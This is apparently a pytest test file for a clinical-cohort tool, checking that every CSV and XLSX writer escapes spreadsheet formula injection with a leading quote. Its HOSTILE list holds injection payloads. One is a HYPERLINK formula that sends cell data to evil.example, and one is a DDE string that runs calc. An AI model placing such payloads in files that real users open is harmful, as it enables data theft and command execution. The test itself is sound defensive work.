"""No CSV or XLSX file cartcohort writes holds a live formula (OWASP's CSV-injection rule).

Hostile text goes through every writer: the report's tables (CSV and ``tables.xlsx``, the
same files the web app zips), ``export`` (CSV and XLSX), the demo writer, the template, the
assay command's outputs and the web app's validation CSV. Each file is read back, the CSV
as text and the XLSX with openpyxl: no cell is a formula, every hostile string has its
quote, and numbers (including negative ones) are still numbers.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from cartcohort._spreadsheet import FORMULA_PREFIXES, neutralise_text, safe_frame

#: Text a spreadsheet program would run as a formula (HYPERLINK, DDE, arithmetic, ...).
HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)
#: Text that stays as it is: ordinary words, plain numbers written as text.
HARMLESS = ("CR", "-2.5", "+3", "1e-3", "P-001", "'=already quoted")


def _is_live(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES) and neutralise_text(text) != text


def _assert_safe_csv(path: Path, hostile: tuple[str, ...] = HOSTILE) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    cells = [c for row in rows for c in row]
    live = [c for c in cells if _is_live(c)]
    assert not live, f"{path.name}: live formulas {live}"
    for text in hostile:
        assert "'" + text in cells, f"{path.name}: {text!r} not written as '{text!r}"
    return rows


def _assert_safe_xlsx(
    path: Path, hostile: tuple[str, ...] = HOSTILE, numbers: tuple[float, ...] = ()
) -> None:
    workbook = load_workbook(path)  # not read-only: cells keep their data type
    texts: list[str] = []
    found: list[float] = []
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", f"{ws.title}!{cell.coordinate}"
                    texts.append(cell.value.replace("\n", "\r"))  # XML reads CR as LF
                elif isinstance(cell.value, int | float):
                    found.append(float(cell.value))
    live = [t for t in texts if _is_live(t)]
    assert not live, f"{path.name}: live formulas {live}"
    for text in hostile:
        assert "'" + text in texts, f"{path.name}: {text!r} not written as '{text!r}"
    for number in numbers:
        assert number in found, f"{path.name}: {number} is not a number cell"


# -----------------------------------------------------------------------------------------
# The rule
# -----------------------------------------------------------------------------------------
@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_run_gets_a_quote(text: str) -> None:
    assert neutralise_text(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_and_plain_numbers_are_left_alone(text: str) -> None:
    assert neutralise_text(text) == text


def test_safe_frame_changes_text_and_headers_only() -> None:
    frame = pd.DataFrame(
        {
            "=bad header": ["=1+1", None, "CR"],
            "value": [-2.5, 1.0, float("nan")],
            "count": [-3, 4, 5],
            "group": pd.Categorical(["-x", "y", "-x"]),
            "text": pd.array(["@a", pd.NA, "b"], dtype="string"),
        }
    )
    safe = safe_frame(frame)
    assert list(safe.columns) == ["'=bad header", "value", "count", "group", "text"]
    column = safe["'=bad header"]
    assert column.iloc[0] == "'=1+1"
    assert pd.isna(column.iloc[1])
    assert column.iloc[2] == "CR"
    pd.testing.assert_series_equal(safe["value"], frame["value"])
    pd.testing.assert_series_equal(safe["count"], frame["count"])
    assert safe["group"].tolist() == ["'-x", "y", "'-x"]
    assert safe["text"].iloc[0] == "'@a"
    assert pd.isna(safe["text"].iloc[1])
    assert frame.iloc[0, 0] == "=1+1"  # the input is not changed


# -----------------------------------------------------------------------------------------
# Every writer
# -----------------------------------------------------------------------------------------
def _hostile_table() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame(
        {
            "patient_id": list(HOSTILE),
            "estimate": [-2.5, *[1.5] * (n - 1)],
            "n": [-3, *range(n - 1)],
        }
    )


def test_report_tables_csv_and_xlsx_hold_no_formula(tmp_path: Path) -> None:
    from cartcohort.ard import AnalysisOutput, PlanResult, TableOutput
    from cartcohort.render.report import write_report

    frame = _hostile_table()
    output = AnalysisOutput(
        id="list",
        kind="listing",
        title="Listing",
        status="done",
        tables=(TableOutput(name="rows", caption="=cmd caption", frame=frame),),
    )
    result = PlanResult(
        plan_name="p",
        plan_title="Plan",
        description="",
        reference="",
        cohort_name='=HYPERLINK("http://x")',
        synthetic=True,
        n_patients=len(frame),
        flow=(),
        outputs=(output,),
    )
    write_report([result], tmp_path, jobs=1)
    tables = tmp_path / "tables"
    rows = _assert_safe_csv(next(tables.glob("*.csv")))
    assert ["'" + HOSTILE[0], "-2.5", "-3"] in rows  # numbers written as numbers
    _assert_safe_xlsx(tables / "tables.xlsx", (*HOSTILE, "=cmd caption"), numbers=(-2.5, -3))


def _hostile_cohort() -> object:
    from cartcohort.model.cohort import Cohort, apply_dtypes
    from cartcohort.model.standard import TABLE_BY_NAME

    n = len(HOSTILE)
    patients = apply_dtypes(
        TABLE_BY_NAME["patients"],
        pd.DataFrame(
            {
                "patient_id": [f"P{i}" for i in range(n)],
                "age_years": [-2.5, *[40.0] * (n - 1)],
                "free_text_note": list(HOSTILE),
            }
        ),
    )
    return Cohort(tables={"patients": patients}, name="=cmd|' /C calc'!A0", synthetic=False)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_holds_no_formula(tmp_path: Path, fmt: str) -> None:
    from cartcohort.store import export_cohort

    paths = export_cohort(_hostile_cohort(), tmp_path, fmt=fmt)  # type: ignore[arg-type]
    if fmt == "csv":
        rows = _assert_safe_csv(tmp_path / "patients.csv")
        assert rows[1][rows[0].index("age_years")] == "-2.5"
    else:
        (path,) = paths
        _assert_safe_xlsx(path, (*HOSTILE, "=cmd|' /C calc'!A0"), numbers=(-2.5,))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_demo_writer_holds_no_formula(tmp_path: Path, fmt: str) -> None:
    from cartcohort.demo.generator import _write_tables

    tables = {"patients": _hostile_table()}
    meta = {"name": "=1+1", "synthetic": True, "description": "@SUM(A1:A9)"}
    (path,) = _write_tables(tmp_path, "demo", tables, fmt, meta)  # type: ignore[arg-type]
    if fmt == "csv":
        _assert_safe_csv(path)
    else:
        _assert_safe_xlsx(path, numbers=(-2.5, -3))


def test_template_holds_no_formula(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from cartcohort.render import standard

    first = standard.TABLES[0]
    column = dataclasses.replace(first.columns[0], description='=HYPERLINK("http://x")')
    table = dataclasses.replace(first, columns=(column, *first.columns[1:]))
    monkeypatch.setattr(standard, "TABLES", (table, *standard.TABLES[1:]))
    path = standard.write_template(tmp_path / "template.xlsx")
    _assert_safe_xlsx(path, ('=HYPERLINK("http://x")',))


def test_assay_command_outputs_hold_no_formula(tmp_path: Path) -> None:
    from importlib.resources import files

    from cartcohort.cli import app

    plate = pd.read_csv(str(files("cartcohort.assay") / "example" / "qpcr_plate.csv"))
    samples = plate.index[plate["Task"] == "sample"]
    hostile = [HOSTILE[i % 4] for i in range(len(samples))]
    plate.loc[samples, "Sample Name"] = hostile
    source = tmp_path / "plate.csv"
    plate.to_csv(source, index=False)
    out = tmp_path / "out"
    args = ["assay", str(source), "--kind", "qpcr", "--dna-ng", "100", "--out", str(out)]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    _assert_safe_csv(out / "samples.csv", HOSTILE[:4])
    _assert_safe_csv(out / "wells.csv", HOSTILE[:4])


def test_web_validation_csv_holds_no_formula(tmp_path: Path) -> None:
    from starlette.testclient import TestClient

    from cartcohort.web import create_app

    buffer = io.StringIO()
    csv.writer(buffer).writerows(
        [("patient_id", "sex", "crs_grade"), *((f"P{i}", h, -2) for i, h in enumerate(HOSTILE))]
    )
    with TestClient(create_app(tmp_path / "work"), base_url="http://127.0.0.1") as client:
        token = re.search(r'<meta name="csrf-token" content="([^"]+)">', client.get("/").text)
        assert token is not None
        client.headers["X-CSRF-Token"] = token.group(1)  # as the app's own forms send it
        client.post("/cohort/upload", files={"file": ("p.csv", buffer.getvalue().encode())})
        r = client.get("/cohort/validation.csv")
    assert r.status_code == 200
    path = tmp_path / "validation.csv"
    path.write_bytes(r.content)
    _assert_safe_csv(path)
